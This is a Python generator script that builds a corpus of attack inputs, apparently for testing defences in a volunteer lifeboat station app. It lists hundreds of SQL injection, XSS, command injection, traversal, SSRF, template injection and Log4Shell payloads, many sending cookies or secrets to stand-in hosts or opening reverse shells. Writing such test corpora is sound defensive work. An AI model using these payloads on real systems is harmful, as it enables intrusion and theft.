#!/usr/bin/env python3
"""Attack values for the lifeboat held-out corpus (volunteer lifeboat station app).

Deterministic: seed 26002, stdlib only. Writes attacks.jsonl next to this file and
checks that no attack value equals a benign value from benign.jsonl.
"""
import json
import os
import random

SEED = 26002

# ---------------------------------------------------------------- sqli (literals)
SQLI = [
    ("union", "Sea Fever' UNION SELECT username, password_hash FROM crew_users-- -"),
    ("union", "24/017' union all select null,pager_pin,null,null from pagers where '1'='1"),
    ("union", "hypothermia%' UNION SELECT table_name,2,3 FROM information_schema.tables#"),
    ("union", "0 UNION SELECT 1,group_concat(email,':',pw),3 FROM volunteers"),
    ("union", "-1' UnIoN SeLeCt 1,@@version,3,4-- x"),
    ("union", "lifejacket')) union select name, sql from sqlite_master--"),
    ("union", "kayak' UNION/**/SELECT/**/column_name,null/**/FROM/**/information_schema.columns/**/WHERE/**/table_name='donors'--"),
    ("union", "Cromer\" UNION SELECT card_last4, expiry FROM gift_aid_payments -- "),
    ("union", "2024' union select 1,load_file('/etc/passwd'),3-- -"),
    ("union", "tow' UNION SELECT NULL, current_user, version() --"),
    ("union", "x' union select string_agg(usename||':'||passwd, ','),null from pg_shadow--"),
    ("union", "99999 union select top 1 name, password from sys.sql_logins--"),
    ("boolean", "Sarah K' OR '1'='1"),
    ("boolean", "O'Brien' or 1=1-- "),
    ("boolean", "helm' AND 1=2 UNION SELECT 'a','b'--"),
    ("boolean", "14 OR 1=1"),
    ("boolean", "pager 14' and substring((select pin from pagers limit 1),1,1)='7"),
    ("boolean", "flares' AND ASCII(SUBSTR((SELECT password FROM crew_users WHERE role='admin'),1,1))>77--"),
    ("boolean", "admin'-- "),
    ("boolean", "') or ('x'='x"),
    ("boolean", "launch\" or \"\"=\""),
    ("boolean", "1 or true"),
    ("boolean", "x' || '1'='1"),
    ("boolean", "ALB' AND (SELECT COUNT(*) FROM crew_users)>0 AND 'a'='a"),
    ("boolean", "drysuit' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)--"),
    ("boolean", "Wells' oR 2>1 #"),
    ("time", "exercise'; WAITFOR DELAY '0:0:7'--"),
    ("time", "1 AND SLEEP(6)"),
    ("time", "Sea Fever' AND (SELECT 4242 FROM (SELECT(SLEEP(8)))x)-- -"),
    ("time", "tow'||pg_sleep(9)--"),
    ("time", "1; select pg_sleep(10);--"),
    ("time", "hypo' and benchmark(9000000,md5('lifeboat'))-- "),
    ("time", "kayak' AND 1=(CASE WHEN substr(user,1,1)='r' THEN dbms_pipe.receive_message('a',6) ELSE 1 END)--"),
    ("time", "x' AND randomblob(300000000)-- "),
    ("time", "2024-07-14' if (select count(*) from crew_users)>0 waitfor delay '00:00:05'--"),
    ("time", "defect 118\" AND SLEEP(5) AND \"x\"=\"x"),
    ("error", "1' AND extractvalue(1,concat(0x7e,(select database())))-- "),
    ("error", "x' AND updatexml(null,concat(0x3a,(SELECT user())),null)-- -"),
    ("error", "1 and 1=convert(int,(select top 1 password from crew_users))"),
    ("error", "shout' AND 1=CAST((SELECT pager_pin FROM pagers LIMIT 1) AS int)--"),
    ("error", "' and (select 1 from (select count(*),concat((select version()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- "),
    ("error", "1' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--"),
    ("stacked", "Storm kit'; DROP TABLE launches;--"),
    ("stacked", "test'); DELETE FROM training_records WHERE ('1'='1"),
    ("stacked", "notes'; UPDATE crew_users SET role='admin' WHERE login='trainee7';--"),
    ("stacked", "1; INSERT INTO crew_users(login,pw,role) VALUES('ghost','x','admin')--"),
    ("stacked", "rota'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\r.txt';--"),
    ("stacked", "pager'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/p|sh';--"),
    ("stacked", "fuel'; TRUNCATE TABLE equipment_checks; --"),
    ("stacked", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("stacked", "1';SET @q=0x73656c65637420736c6565702835293b;PREPARE st FROM @q;EXECUTE st;--"),
    ("order", "date, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM crew_users LIMIT 1)='a' THEN date ELSE crew_count END)"),
    ("order", "launch_time ASC, if(1=1,sleep(5),0)"),
    ("order", "3 desc limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("order", "(case when (select 1 from crew_users where login='admin' and substr(pw,1,1)>'m') then launch_time else return_time end)"),
    ("comment-obfuscation", "1'/**/oR/**/1/**/LIKE/**/1--"),
    ("comment-obfuscation", "x'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
    ("comment-obfuscation", "Sea%'\t\nUNION\t\nSELECT\t\nlogin,pw\t\nFROM\t\ncrew_users#"),
    ("comment-obfuscation", "0'UnI/**/On SeL/**/eCt 1,2-- "),
    ("comment-obfuscation", "1'%0aand%0a1=0%0aunion%0aselect%0apw%0afrom%0acrew_users--"),
    ("comment-obfuscation", "flare'/**/AND/**/0x31=0x31/**/--"),
    ("encoded", "%2527%2520OR%25201%253D1--"),
    ("encoded", "tow%27%20UNION%20SELECT%20login,pw%20FROM%20crew_users--%20"),
    ("encoded", "1%bf%27 or 1=1-- "),
    ("encoded", "\uff07 OR \uff11=\uff11--"),
    ("encoded", "Sea Fever&#39; OR &#39;1&#39;=&#39;1"),
    ("encoded", "x\\u0027 UNION SELECT pw FROM crew_users--"),
    ("encoded", "char(39)+or+1=1--"),
    ("encoded", "1 AND 1=0 UNION SELECT CHAR(112,119),CHAR(49)--"),
    ("json-sqli", "{\"boat\":\"ALB' OR 1=1-- \",\"from\":\"2024-01-01\"}"),
    ("json-sqli", "name,role,pager\nTom',(SELECT pw FROM crew_users LIMIT 1),'99')-- ,crew,99"),
    ("second-order", "Display name: Dave'||(select pw from crew_users where login='admin')||'"),
    ("second-order", "Boat name: Skipper's Dream'); DROP TABLE shouts;--"),
]

# sqli payload pool for url-encoding (hand-written)
SQLI_FOR_ENCODE = [
    "' OR 'a'='a' -- ",
    "1 UNION SELECT login,pw FROM crew_users",
    "Sea Fever' AND SLEEP(7)#",
    "'; DROP TABLE pagers;--",
    "x' AND extractvalue(1,concat(0x7e,user()))-- ",
    "1) OR (1=1",
    "hypo' union select null,version()--",
    "2024'||(SELECT pg_sleep(6))||'",
]

# ---------------------------------------------------------------- xss (literals)
XSS = [
    ("script-tag", "Great shout tonight! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "<ScRiPt>new Image().src='//203.0.113.9/k?c='+encodeURIComponent(document.cookie)</sCrIpT>"),
    ("script-tag", "Raffle winner: <script src=https://cdn.attacker.example/x.js></script>"),
    ("script-tag", "</textarea><script>alert(document.domain)</script>"),
    ("script-tag", "'</title><script>location='//attacker.example/?'+localStorage.token</script>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script\n>setTimeout('al'+'ert(1)')</script\n>"),
    ("event-handler", "<img src=x onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("event-handler", "Pic of the shout <img src=/nope.jpg onerror=alert`1`>"),
    ("event-handler", "<svg onload=alert(document.cookie)>"),
    ("event-handler", "<svg/onload=location=`//attacker.example/${document.cookie}`>"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<details open ontoggle=\"navigator.sendBeacon('//attacker.example',document.body.innerHTML)\">"),
    ("event-handler", "<input autofocus onfocus=alert(origin)>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=confirm(2)>Duck race results</marquee>"),
    ("event-handler", "<div style=\"width:1000px;height:1000px\" onmouseover=\"alert(1)\">Open day photos</div>"),
    ("event-handler", "<audio src=1 onerror=import('//attacker.example/m.js')>"),
    ("event-handler", "<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>"),
    ("event-handler", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"),
    ("event-handler", "<a href=# onclick=\"document.location='//attacker.example/s?'+document.cookie\">see the full log</a>"),
    ("event-handler", "<select autofocus onfocus=alert(1)>"),
    ("event-handler", "<object data=x onerror=alert(1)>"),
    ("event-handler", "<x contenteditable onblur=alert(1)>lose focus!</x>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)"),
    ("attr-breakout", "Siân\" autofocus onfocus=\"fetch('//attacker.example/?'+document.cookie)\" x=\""),
    ("attr-breakout", "' onerror='alert(1)' src='x"),
    ("attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "foghorn.mp3\"><svg onload=alert(1)>"),
    ("attr-breakout", "x\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("js-uri", "java\tscript:alert(1)"),
    ("js-uri", "  javascript:void(location='//attacker.example/?c='+document.cookie)"),
    ("js-uri", "<a href=\"javascript&colon;alert(1)\">Donate here</a>"),
    ("js-uri", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Newsletter</a>"),
    ("js-uri", "<iframe src=\"javascript:alert(`crew`)\"></iframe>"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("js-uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("js-uri", "<form action=javascript:alert(1)><button>Submit availability</button></form>"),
    ("js-uri", "[Click for the rota](javascript:alert(document.domain))"),
    ("js-uri", "<embed src=\"javascript:alert(1)\">"),
    ("js-context", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-context", "\";fetch('//attacker.example/'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(1)}`;alert(2);`"),
    ("js-context", "\\';alert(1);//"),
    ("js-context", "-alert(1)-"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("encoded", "<svg><script>&#97;lert(1)</script></svg>"),
    ("encoded", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "<img src=x onerror=\\u0061lert(1)>"),
    ("encoded", "<a href=\"jav&#x09;ascript:alert(1)\">shop</a>"),
    ("filter-evasion", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("filter-evasion", "<img/src/onerror=alert(1)>"),
    ("filter-evasion", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("filter-evasion", "<IMG SRC=x ONERROR=top[`al`+`ert`](1)>"),
    ("filter-evasion", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("filter-evasion", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>tap</text></a></svg>"),
    ("filter-evasion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("filter-evasion", "<style>@import'//attacker.example/x.css';</style>"),
    ("filter-evasion", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("filter-evasion", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("filter-evasion", "<base href=\"//attacker.example/\">"),
    ("dom-template", "{{constructor.constructor('alert(1)')()}}"),
    ("dom-template", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
]

XSS_POOL = [
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=fetch('//attacker.example/x')>",
    "<script>alert(1)</script>",
    "\"><script>alert(document.domain)</script>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>",
    "<img src=1 onerror=this.src='//attacker.example/?'+document.cookie>",
]
XSS_PREFIX = [
    "Thanks for the tea! ",
    "Lost: black jacket ",
    "Open day 10-4 ",
    "Quiz night at the Anchor ",
    "Pager 14 returned ",
    "Crew photo Sat 11am ",
]

# ---------------------------------------------------------------- cmdi (literals)
CMDI = [
    ("separator", "launches_2024.csv; cat /etc/passwd"),
    ("separator", "report.pdf && curl -s http://attacker.example/s.sh | sh"),
    ("separator", "pager14 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("separator", "x || wget -qO- http://198.51.100.23/a | bash"),
    ("separator", "foghorn.mp3;id"),
    ("separator", "2024-07-14;rm -rf /var/www/uploads/*"),
    ("separator", "backup & net user lifeboat Pass123! /add &"),
    ("separator", "navplan.docx | whoami"),
    ("separator", "photo.jpg\nuname -a"),
    ("separator", "photo.jpg\r\ncat /etc/shadow"),
    ("separator", "crew.csv%0aid"),
    ("separator", "openday.png%3Bcat%20/etc/passwd"),
    ("separator", "x; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("separator", "a;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "x; php -r '$s=fsockopen(\"203.0.113.11\",8080);exec(\"sh <&3 >&3 2>&3\");'"),
    ("separator", "shout.txt; perl -e 'use Socket;$i=\"203.0.113.12\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(53,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("separator", "ch16; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjkvOTAgMD4mMQ== | base64 -d | sh"),
    ("separator", "1 & ping -n 12 127.0.0.1 &"),
    ("separator", "1 ; sleep 9 ;"),
    ("separator", "test|ping -c 11 localhost"),
    ("separator", "Wells; crontab -l; echo '* * * * * curl attacker.example/b|sh' | crontab -"),
    ("separator", "x;echo ssh-ed25519 AAAAC3Nza...FAKEKEY op@attacker >> ~/.ssh/authorized_keys"),
    ("substitution", "$(curl http://attacker.example/$(whoami))"),
    ("substitution", "`id`"),
    ("substitution", "Dan `cat /etc/hostname`"),
    ("substitution", "helm$(sleep 8)"),
    ("substitution", "$(nslookup $(hostname).x.attacker.example)"),
    ("substitution", "report-$(uname -a|base64).pdf"),
    ("substitution", "\"; $(wget -O /tmp/.x http://198.51.100.77/x && chmod +x /tmp/.x && /tmp/.x); \""),
    ("substitution", "Pager test on $(cat /proc/self/environ)"),
    ("substitution", "<(curl -s attacker.example/r)"),
    ("substitution", "ALB_$(dig +short `whoami`.attacker.example)"),
    ("obfuscation", ";c''at /e''tc/pa''sswd"),
    ("obfuscation", ";c\\at /et\\c/pas\\swd"),
    ("obfuscation", "|cat${IFS}/etc/passwd"),
    ("obfuscation", ";{cat,/etc/passwd}"),
    ("obfuscation", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("obfuscation", ";/???/c?t /e??/p?ss??"),
    ("obfuscation", ";/b[i]n/w[h]oami"),
    ("obfuscation", ";a=ca;b=t;$a$b /etc/passwd"),
    ("obfuscation", "x;$(printf '\\143\\141\\164') /etc/shadow"),
    ("obfuscation", "x;w$@hoami"),
    ("obfuscation", ";IFS=,;`cat<<<curl,attacker.example/p`"),
    ("obfuscation", "x;$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64${IFS}-d)|sh"),
    ("obfuscation", "1;${PATH:0:1}bin${PATH:0:1}id"),
    ("obfuscation", "||\"c\"\"u\"rl -d @/etc/passwd attacker.example"),
    ("windows", "navplan.docx & type C:\\Windows\\win.ini"),
    ("windows", "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("windows", "x & certutil -urlcache -split -f http://203.0.113.5/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows", "report.pdf | cmd /c dir C:\\Users"),
    ("windows", "a&&set"),
    ("windows", "x | powershell -enc SQBFAFgAKABpAHcAcgAgAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUAKQA="),
    ("windows", "& c^m^d /c who^ami"),
    ("windows", "backup.zip & bitsadmin /transfer j /download /priority high http://198.51.100.8/n.exe C:\\Users\\Public\\n.exe"),
    ("windows", "x&&mshta http://attacker.example/h.hta"),
    ("arg-injection", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("arg-injection", "-o ProxyCommand=\"sh -c 'curl attacker.example|sh'\" x"),
    ("arg-injection", "--exec='/bin/sh -c id'"),
    ("arg-injection", "launches.csv --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("arg-injection", "-oProxyCommand=`curl attacker.example/z|sh`"),
    ("arg-injection", "x -X /var/www/html/log.php -OQueueDirectory=/tmp"),
    ("arg-injection", "--use-compress-program='sh -c id'"),
    ("arg-injection", "-exec sh -c 'id > /tmp/o' ;"),
    ("context", "Cron for pager test: 0 10 * * 0; curl attacker.example/c | sh"),
    ("context", "ImageMagick: photo.jpg[0]' -write 'msl:/tmp/x.msl"),
    ("context", "Notification sound: ';nc -lvp 4444 -e /bin/bash;'.mp3"),
]

CMDI_POOL = [
    "; cat /etc/passwd",
    "| id",
    "&& wget http://attacker.example/x -O /tmp/x",
    "$(sleep 10)",
    "`nc 203.0.113.44 4444 -e sh`",
    "|| curl 198.51.100.9/s|sh",
]
CMDI_PREFIX = [
    "launches_2024.csv",
    "shout_24-017.pdf",
    "openday.jpg",
    "navplan_yare.docx",
    "roster-week32.xlsx",
]

# ---------------------------------------------------------------- traversal (literals)
TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "/training/2024/../../../../../etc/shadow"),
    ("dotdot", "photos/2024/openday/../../../../../../proc/self/environ"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "exports/../../../var/www/lifeboat/.env"),
    ("dotdot", "../../../../home/ops/.ssh/id_rsa"),
    ("dotdot", "navplan_yare.docx/../../../../etc/hosts"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "spares_2024.xlsx/../../../../../root/.bash_history"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.20\\share\\payload.dll"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("encoded", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "..%c1%9c..%c1%9cboot.ini"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5csystem.ini"),
    ("encoded", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("encoded", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/var/www/lifeboat/config.php"),
    ("encoded", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("filter-evasion", "....//....//....//....//etc/passwd"),
    ("filter-evasion", "..././..././..././etc/passwd"),
    ("filter-evasion", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("filter-evasion", "/./././../../../../etc/./passwd"),
    ("filter-evasion", "..//..//..//..//etc//passwd"),
    ("filter-evasion", "../../../../etc/passwd%00.pdf"),
    ("filter-evasion", "../../../../etc/passwd\\u0000.jpg"),
    ("filter-evasion", "photos/../../../../etc/passwd#.png"),
    ("filter-evasion", "..;/..;/..;/WEB-INF/web.xml"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("wrapper", "zip://uploads/roster.zip%23shell.php"),
    ("wrapper", "phar:///var/www/uploads/openday.jpg/x.php"),
    ("wrapper", "expect://id"),
]

TRAV_FOR_ENCODE = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/exports/../../../../etc/shadow",
    "../../../../var/www/lifeboat/.env",
    "....//....//etc/hosts",
]

# ---------------------------------------------------------------- ssrf (literals)
SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "Webhook URL: http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/user-data"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://0x7f.1/admin"),
    ("alt-ip", "http://2130706433:8080/actuator/env"),
    ("alt-ip", "http://017700000001/server-status"),
    ("alt-ip", "http://127.1/"),
    ("alt-ip", "http://0/"),
    ("alt-ip", "http://[::]:6379/"),
    ("alt-ip", "http://\u2460\u2468\u2467.\u2460\u2468\u2465.\u2460.\u2460/"),
    ("internal", "http://localhost:9200/_cat/indices?v"),
    ("internal", "http://127.0.0.1:2375/containers/json"),
    ("internal", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.17.0.1:10250/pods"),
    ("internal", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://redis.internal:6379/"),
    ("internal", "Calendar feed: http://127.0.0.1:8080/manager/html"),
    ("internal", "http://admin-panel.internal/users?export=csv"),
    ("internal", "http://localhost/server-status"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cop%40attacker.example%3E%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///var/www/lifeboat/.env"),
    ("scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("scheme", "tftp://203.0.113.30/lifeboat.conf"),
    ("scheme", "jar:http://attacker.example/p.jar!/x.class"),
    ("scheme", "netdoc:///etc/passwd"),
    ("bypass", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("bypass", "http://lifeboat-station.example.org.attacker.example/redirect?to=http://127.0.0.1/"),
    ("bypass", "http://127.0.0.1.nip.io:8080/admin"),
    ("bypass", "http://169.254.169.254#@calendar.example.com/"),
    ("bypass", "https://attacker.example/302?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("bypass", "http://localtest.me:9000/"),
    ("bypass", "http://calendar.example.com\\@127.0.0.1/"),
    ("bypass", "http://rebind.attacker.example/ (A record alternates 203.0.113.5 / 127.0.0.1)"),
    ("bypass", "http://LOCALHOST:22/"),
    ("bypass", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("context", "{\"webhook\":\"http://169.254.169.254/latest/meta-data/\",\"events\":[\"launch\"]}"),
    ("context", "Photo import URL: http://127.0.0.1:5984/_all_dbs"),
    ("context", "<img src=\"http://10.1.2.3/internal/crew.csv\"> (newsletter preview fetch)"),
]

# ---------------------------------------------------------------- code (literals)
CODE = [
    ("ssti-jinja", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, your shift is tomorrow"),
    ("ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__['os'].system('curl attacker.example/j|sh') }}"),
    ("ssti-jinja", "{{7*'7'}}{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"whoami\")}}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/hostname\")}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-erb", "<%= `cat /etc/passwd` %>"),
    ("ssti-erb", "<%= system('curl attacker.example/e | sh') %>"),
    ("ssti-erb", "<%= File.read('/var/www/lifeboat/config/secrets.yml') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('whoami');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{#each conslist}}{{#with (string.sub.apply 0 this)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-razor", "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }"),
    ("ssti-go", "{{ .Env }} {{ printf \"%s\" .Config.DBPassword }}"),
    ("el-spel", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/sp')}"),
    ("el-spel", "#{T(java.lang.System).getenv()}"),
    ("el-spel", "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-ognl", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}"),
    ("el-jsp", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-mvel", "Runtime.getRuntime().exec(\"touch /tmp/mvel\")"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell", "Kayaker recovered ${jndi:rmi://203.0.113.66/Exploit}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.2/z}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example}"),
    ("log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/b}"),
    ("log4shell", "${jn${date:''}di:ld${date:''}ap://attacker.example/c}"),
    ("log4shell", "$%7Bjndi:ldap://attacker.example/u%7D"),
    ("log4shell", "${jndi:${lower:ld}${upper:a}p://[fd00::1]@attacker.example/q}"),
    ("eval-js", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-js", "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
    ("eval-js", "1;this.constructor.constructor('return process')().exit()"),
    ("eval-js", "');require(\"fs\").readFileSync(\"/etc/passwd\");//"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?=`$_POST[x]`?>"),
    ("eval-php", "'; eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); //"),
    ("eval-php", "${@print(system('id'))}"),
    ("eval-python", "__import__('os').system('nc 203.0.113.9 4444 -e /bin/sh')"),
    ("eval-python", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-python", "exec(\"import subprocess;subprocess.call(['sh','-c','curl attacker.example|sh'])\")"),
